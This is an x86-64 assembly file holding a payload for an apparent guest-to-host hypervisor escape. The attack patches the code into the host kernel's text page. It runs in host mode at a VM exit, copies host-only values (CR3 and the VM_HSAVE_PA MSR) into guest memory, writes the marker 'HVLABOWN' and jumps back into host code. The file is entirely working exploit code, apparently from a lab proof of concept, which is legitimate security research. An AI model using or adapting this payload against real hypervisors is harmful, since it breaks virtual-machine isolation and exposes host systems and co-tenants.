/*
 * What the attack puts into the core's text page.  It runs in host mode behind an exit, when the guest's registers are saved: it leaves
 * its mark in the guest's memory and goes on where the core's code would have gone.  Position-independent but for two slots, which the
 * attack fills: the mark's address and the way back.
 */
	.section .rodata
	.globl payload, payload_mark, payload_back, payload_end
	.balign 8
	.code64
payload:
	movabs $0, %rax			/* struct mark */
	.set payload_mark, . - 8
	mov %cr3, %rcx
	mov %rcx, 8(%rax)
	mov $0xc0010117, %ecx		/* VM_HSAVE_PA, which a guest cannot read */
	rdmsr
	shl $32, %rdx
	mov %eax, %ecx
	or %rdx, %rcx
	movabs $0, %rax
	.set payload_mark_again, . - 8
	.globl payload_mark_again
	mov %rcx, 16(%rax)
	movabs $0x4e574f42414c5648, %rcx	/* "HVLABOWN" */
	mov %rcx, (%rax)
	incq 24(%rax)
	.byte 0xe9			/* jmp */
payload_back:
	.long 0
payload_end:
